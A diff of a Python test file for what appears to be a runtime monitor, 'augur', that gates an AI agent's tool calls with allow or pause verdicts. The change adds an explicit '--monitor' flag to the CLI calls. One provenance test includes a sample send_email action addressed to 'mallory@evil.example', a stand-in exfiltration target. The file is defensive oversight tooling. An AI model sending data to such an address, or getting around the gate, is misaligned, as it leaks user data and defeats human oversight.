@@ -209,7 +209,7 @@ def test_gate_decisions_match_the_cli(tmp_path):
     mon = tmp_path / "m.json"
     cli("monitor", "compile", "models/safetydrift.tra", "--prop", 'P=? [ F<=5 "violated" ]', "-o", str(mon))
     lines = "\n".join(json.dumps({"session": "s", "tool": t, "args": a}) for t, a in ACTIONS) + "\n"
-    expected = [json.loads(x) for x in cli("monitor", "gate", str(mon), stdin=lines).splitlines()]
+    expected = [json.loads(x) for x in cli("monitor", "gate", "--monitor", str(mon), stdin=lines).splitlines()]
     for monitor in (augur.Monitor.load(mon), augur.Monitor.compile(MODELS / "safetydrift.tra", 'P=? [ F<=5 "violated" ]'), augur.Monitor.default()):
         session = monitor.session(id="s")
         got = [session.gate(t, a) for t, a in ACTIONS]
@@ -352,7 +352,7 @@ def test_the_microwave_monitor_compiles_from_python_and_decides_as_the_cli(tmp_p
         json.dumps({"session": r["id"], "state": st["state"]}) + "\n" for r in runs for st in r["steps"]
     )
     policy = str(MICROWAVE / "policy.toml")
-    expected = [json.loads(x) for x in cli("monitor", "gate", str(mon), "--policy", policy, stdin=lines).splitlines()]
+    expected = [json.loads(x) for x in cli("monitor", "gate", "--monitor", str(mon), "--policy", policy, stdin=lines).splitlines()]
     fork = [e["verdict"] for e in expected if e["session"] == "fork-in-microwave"]
     assert fork[:3] == ["allow", "allow", "pause"], fork
     # From the learned file, and from a model learned in Python (the same learner).
@@ -430,7 +430,7 @@ def test_observe_makes_provenance_decide(tmp_path):
         {"session": "S", "tool": "send_email", "args": {"recipients": ["bob@corp.example"], "body": "notes"}},
         {"session": "S", "tool": "send_email", "args": {"recipients": ["mallory@evil.example"], "body": "notes"}},
     ]
-    out = [json.loads(x) for x in cli("monitor", "gate", str(path), stdin="\n".join(json.dumps(l) for l in lines) + "\n").splitlines()]
+    out = [json.loads(x) for x in cli("monitor", "gate", "--monitor", str(path), stdin="\n".join(json.dumps(l) for l in lines) + "\n").splitlines()]
     assert out[3] == ok.to_dict() and out[4] == d
     with pytest.raises(augur.ParameterError, match="source must be"):
         s.observe("mars", "x")
